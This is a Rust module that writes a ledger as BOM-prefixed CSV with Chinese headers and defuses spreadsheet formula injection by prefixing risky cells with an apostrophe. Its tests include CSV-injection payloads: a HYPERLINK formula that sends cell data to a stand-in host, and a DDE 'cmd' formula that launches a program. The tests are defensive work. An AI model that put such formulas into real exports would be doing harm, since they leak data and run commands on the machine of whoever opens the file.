//! CSV: UTF-8 with a byte-order mark (Excel reads BOM-less CSV as the local code page and
//! garbles Chinese), the canonical Chinese headers, the csv crate's quoting, and no cell
//! that a spreadsheet would run as a formula.

use super::LedgerSink;
use crate::{LedgerError, Result};
use gridwalk_core::ledger::{LedgerRow, LEDGER_COLUMNS};
use std::borrow::Cow;
use std::io::Write;

pub struct CsvLedger<W: Write> {
    out: csv::Writer<W>,
}

impl<W: Write> CsvLedger<W> {
    /// Write the BOM and the header row.
    pub fn new(mut out: W) -> Result<CsvLedger<W>> {
        out.write_all("\u{feff}".as_bytes())?;
        let mut out = csv::WriterBuilder::new()
            .buffer_capacity(256 * 1024)
            .from_writer(out);
        out.write_record(LEDGER_COLUMNS.iter().map(|c| c.zh()))
            .map_err(csv_err)?;
        Ok(CsvLedger { out })
    }

    /// Flush and hand back the underlying writer.
    pub fn into_inner(self) -> Result<W> {
        self.out
            .into_inner()
            .map_err(|e| LedgerError::Io(e.into_error()))
    }
}

/// A cell that Excel or LibreOffice would read as a formula (`=`, `+`, `-`, `@`, or a
/// tab or carriage return first) gets a leading `'`, as OWASP advises against CSV
/// injection: names and notes come from devices, and `=HYPERLINK(…)` or `=cmd|…` would
/// run on the desk of whoever opens the export. A plain number (`-5`, `+3.5`) is data
/// and stays as it is.
pub fn formula_safe(value: &str) -> Cow<'_, str> {
    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// `[+-]digits[.digits]`: a number a spreadsheet reads as a number, nothing else.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix(['+', '-']).unwrap_or(value);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

fn csv_err(e: csv::Error) -> LedgerError {
    LedgerError::Write(format!("CSV: {e}"))
}

impl<W: Write> LedgerSink for CsvLedger<W> {
    fn row(&mut self, row: &LedgerRow) -> Result<()> {
        for value in &row.values {
            self.out
                .write_field(formula_safe(value).as_bytes())
                .map_err(csv_err)?;
        }
        // An empty record ends the one the fields above began.
        self.out.write_record(None::<&[u8]>).map_err(csv_err)
    }

    fn finish(self: Box<Self>) -> Result<()> {
        self.into_inner()?.flush()?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use gridwalk_core::ledger::LedgerColumn;

    #[test]
    fn bom_header_and_quoted_values() {
        let mut sink = CsvLedger::new(Vec::new()).expect("csv");
        let mut row = LedgerRow::empty();
        row.set(LedgerColumn::Name, "张三");
        row.set(LedgerColumn::Notes, "房东, \"老王\"\n二楼");
        sink.row(&row).expect("row");
        let bytes = sink.into_inner().expect("bytes");
        assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]));
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let headers = reader.headers().expect("headers").clone();
        assert_eq!(headers.get(0), Some("户编号"));
        let rec = reader.records().next().expect("one").expect("parses");
        let notes = LEDGER_COLUMNS
            .iter()
            .position(|c| *c == LedgerColumn::Notes)
            .expect("notes column");
        assert_eq!(rec.get(notes), Some("房东, \"老王\"\n二楼"));
    }

    #[test]
    fn formulas_are_neutralised_numbers_kept() {
        let cases = [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+86 138 0013 8000", "'+86 138 0013 8000"),
            ("-2+3", "'-2+3"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-5", "-5"),
            ("+3.5", "+3.5"),
            ("-122.25", "-122.25"),
            ("张三", "张三"),
            ("a=b", "a=b"),
            ("", ""),
        ];
        for (input, want) in cases {
            assert_eq!(formula_safe(input), want, "{input:?}");
        }
        // And in a written file.
        let mut sink = CsvLedger::new(Vec::new()).expect("csv");
        let mut row = LedgerRow::empty();
        row.set(LedgerColumn::Name, "=cmd|' /C calc'!A0");
        row.set(LedgerColumn::Longitude, "-5");
        sink.row(&row).expect("row");
        let bytes = sink.into_inner().expect("bytes");
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let rec = reader.records().next().expect("one").expect("parses");
        let at = |c: LedgerColumn| LEDGER_COLUMNS.iter().position(|x| *x == c).expect("col");
        assert_eq!(rec.get(at(LedgerColumn::Name)), Some("'=cmd|' /C calc'!A0"));
        assert_eq!(rec.get(at(LedgerColumn::Longitude)), Some("-5"));
    }
}
